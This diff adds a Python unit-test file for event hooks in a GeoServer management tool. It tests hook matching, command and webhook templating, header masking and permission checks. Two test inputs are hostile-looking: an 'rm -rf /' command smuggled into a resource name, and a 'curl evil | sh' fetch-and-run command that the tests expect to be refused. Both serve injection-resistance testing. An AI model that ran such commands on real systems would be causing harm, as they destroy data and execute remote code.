@@ -0,0 +1,238 @@
+"""Unit tests for event hooks.
+
+Tests choosing the hooks an event fires, filling in their templates and
+running commands, and the events the GeoServer client fires.
+"""
+
+import json
+import sys
+from unittest.mock import MagicMock, patch
+
+import pytest
+
+from apps.core.config import EventHook
+from apps.core.hooks import (
+    HEADER_MASK,
+    HookEvent,
+    HookRunner,
+    masked_hook,
+    matches,
+    merge_hook_update,
+    render_body,
+    render_command,
+    run_hook,
+)
+from apps.core.permissions import IsAdminOrDaemonToken
+
+
+def _event(name: str = "layer.published") -> HookEvent:
+    return HookEvent(
+        name=name,
+        connection="Production",
+        connection_id="conn_1",
+        workspace="topp",
+        resource="roads",
+        details={"filename": "roads 2024.zip"},
+    )
+
+
+class TestMatches:
+    """Tests for matches."""
+
+    def test_event_patterns(self) -> None:
+        """Test exact names, prefixes and the wildcard."""
+        event = _event("style.updated")
+        assert matches(EventHook(name="a", events=["style.updated"]), event)
+        assert matches(EventHook(name="b", events=["style.*"]), event)
+        assert matches(EventHook(name="c"), event)
+        assert not matches(EventHook(name="d", events=["layer.*"]), event)
+        assert not matches(EventHook(name="e", events=["style"]), event)
+
+    def test_disabled_and_other_connections(self) -> None:
+        """Test disabled hooks and hooks for other connections don't run."""
+        assert not matches(EventHook(name="a", enabled=False), _event())
+        assert not matches(EventHook(name="b", connections=["conn_2"]), _event())
+        assert matches(EventHook(name="c", connections=["conn_1"]), _event())
+
+
+class TestTemplates:
+    """Tests for render_command and render_body."""
+
+    def test_command_arguments_are_filled_in_separately(self) -> None:
+        """Test values with spaces or quotes stay single arguments."""
+        hook = EventHook(name="a", command="notify '${event}: ${workspace}:${name}' ${filename}")
+        event = _event()
+        event.resource = "roads; rm -rf /"
+        assert render_command(hook, event) == [
+            "notify",
+            "layer.published: topp:roads; rm -rf /",
+            "roads 2024.zip",
+        ]
+
+    def test_unknown_placeholders_are_kept(self) -> None:
+        """Test placeholders without a value are left as they are."""
+        hook = EventHook(name="a", command="echo ${nothing}")
+        assert render_command(hook, _event()) == ["echo", "${nothing}"]
+
+    def test_default_body_is_the_event(self) -> None:
+        """Test a webhook without a body template is sent the event as JSON."""
+        body = json.loads(render_body(EventHook(name="a", url="http://x"), _event()))
+        assert body["event"] == "layer.published"
+        assert body["connectionId"] == "conn_1"
+        assert body["filename"] == "roads 2024.zip"
+
+    def test_body_template(self) -> None:
+        """Test a body template is filled in."""
+        hook = EventHook(name="a", url="http://x", body='{"layer": "${workspace}:${name}"}')
+        assert json.loads(render_body(hook, _event())) == {"layer": "topp:roads"}
+
+
+class TestRunHook:
+    """Tests for run_hook."""
+
+    def test_command_gets_the_event(self) -> None:
+        """Test a command runs with the event as JSON on its input."""
+        script = 'import json, sys; print(json.load(sys.stdin)["name"])'
+        hook = EventHook(name="a", command=f"{sys.executable} -c '{script}'")
+        result = run_hook(hook, _event())
+        assert result.success
+        assert result.message == "roads"
+
+    def test_failing_command(self) -> None:
+        """Test a command exiting with an error counts as failed."""
+        hook = EventHook(name="a", command=f"{sys.executable} -c 'raise SystemExit(3)'")
+        result = run_hook(hook, _event())
+        assert not result.success
+        assert "3" in result.message
+
+    def test_missing_command(self) -> None:
+        """Test a command that doesn't exist is reported, not raised."""
+        result = run_hook(EventHook(name="a", command="/nonexistent/hook"), _event())
+        assert not result.success
+
+    def test_webhook(self) -> None:
+        """Test a webhook is called with the rendered body and headers."""
+        hook = EventHook(name="a", url="http://hooks.test/${workspace}", headers={"X-Key": "k"})
+        with patch("apps.core.hooks.httpx.request") as request:
+            request.return_value = MagicMock(status_code=204)
+            result = run_hook(hook, _event())
+
+        assert result.success
+        method, url = request.call_args.args
+        assert (method, url) == ("POST", "http://hooks.test/topp")
+        assert request.call_args.kwargs["headers"]["X-Key"] == "k"
+
+
+class TestHookRunner:
+    """Tests for HookRunner."""
+
+    def test_emit_runs_matching_hooks(self) -> None:
+        """Test only the hooks an event fires run, and are remembered."""
+        runner = HookRunner()
+        config = MagicMock()
+        config.event_hooks = [
+            EventHook(name="layers", events=["layer.*"], command="true"),
+            EventHook(name="styles", events=["style.*"], command="true"),
+        ]
+        with patch("apps.core.hooks.config_manager", MagicMock(config=config)):
+            with patch("apps.core.hooks.run_hook") as run:
+                run.side_effect = lambda hook, event: MagicMock(hook=hook.name)
+                futures = runner.emit(_event())
+                results = [future.result() for future in futures]
+
+        assert [result.hook for result in results] == ["layers"]
+        assert runner.recent() == results
+
+
+class TestHookUpdates:
+    """Test how the API shows and updates hooks."""
+
+    CURRENT = [
+        EventHook(name="notify", command="notify-send done"),
+        EventHook(name="cdn", url="https://cdn.example.com", headers={"Authorization": "t0k"}),
+    ]
+
+    def test_headers_masked(self) -> None:
+        """Test header values aren't listed."""
+        assert masked_hook(self.CURRENT[1])["headers"] == {"Authorization": HEADER_MASK}
+
+    def test_mask_keeps_value_and_command_kept(self) -> None:
+        """Test masked headers keep their value and an unchanged command is allowed."""
+        updated = [
+            EventHook(name="notify", command="notify-send done", enabled=False),
+            EventHook(
+                name="cdn",
+                url="https://cdn.example.com",
+                headers={"Authorization": HEADER_MASK, "X-Env": "prod"},
+            ),
+        ]
+
+        merged = merge_hook_update(updated, self.CURRENT)
+
+        assert not merged[0].enabled
+        assert merged[1].headers == {"Authorization": "t0k", "X-Env": "prod"}
+
+    @pytest.mark.parametrize(
+        "hook",
+        [
+            EventHook(name="notify", command="sh -c 'curl evil | sh'"),
+            EventHook(name="new", command="true"),
+            EventHook(name="cdn", url="https://cdn.example.com", command="true"),
+        ],
+    )
+    def test_commands_refused(self, hook: EventHook) -> None:
+        """Test the API can't set a command a hook doesn't have."""
+        with pytest.raises(ValueError, match="only be set in the config file"):
+            merge_hook_update([hook], self.CURRENT)
+
+    def test_admin_or_daemon_token(self) -> None:
+        """Test only staff users and holders of the daemon token may manage hooks."""
+        permission = IsAdminOrDaemonToken()
+        config = MagicMock(CLOUDBENCH_API_TOKEN="secret")
+
+        def request(token: str = "", staff: bool = False) -> MagicMock:
+            headers = {"Authorization": f"Bearer {token}"} if token else {}
+            return MagicMock(
+                META={"REMOTE_ADDR": "127.0.0.1"},
+                headers=headers,
+                user=MagicMock(is_staff=staff),
+            )
+
+        with patch("apps.core.headless.settings", config):
+            assert permission.has_permission(request(staff=True), None)
+            assert permission.has_permission(request("secret"), None)
+            assert not permission.has_permission(request("guess"), None)
+            assert not permission.has_permission(request(), None)
+
+    def test_no_token_without_daemon(self) -> None:
+        """Test an empty bearer token doesn't match a server started without one."""
+        request = MagicMock(headers={"Authorization": "Bearer "}, user=MagicMock(is_staff=False))
+
+        with patch("apps.core.headless.settings", MagicMock(CLOUDBENCH_API_TOKEN="")):
+            assert not IsAdminOrDaemonToken().has_permission(request, None)
+
+
+class TestClientEvents:
+    """Tests for the events the GeoServer client fires."""
+
+    def test_created_style_is_not_also_updated(self, make_geoserver_client) -> None:
+        """Test creating a style fires style.created only."""
+        client = make_geoserver_client()
+        client._request.return_value = MagicMock(status_code=201)
+
+        with patch("apps.geoserver.client.hooks") as hooks:
+            client.create_style("roads", "<sld/>", workspace="topp")
+
+        hooks.emit.assert_called_once_with("style.created", client.connection, "topp", "roads")
+
+    def test_workspace_deleted(self, make_geoserver_client) -> None:
+        """Test deleting a workspace fires workspace.deleted."""
+        client = make_geoserver_client()
+        client._request.return_value = MagicMock(status_code=200)
+
+        with patch("apps.geoserver.client.hooks") as hooks:
+            client.delete_workspace("topp", recurse=True)
+
+        hooks.emit.assert_called_once_with(
+            "workspace.deleted", client.connection, name="topp", recurse=True
+        )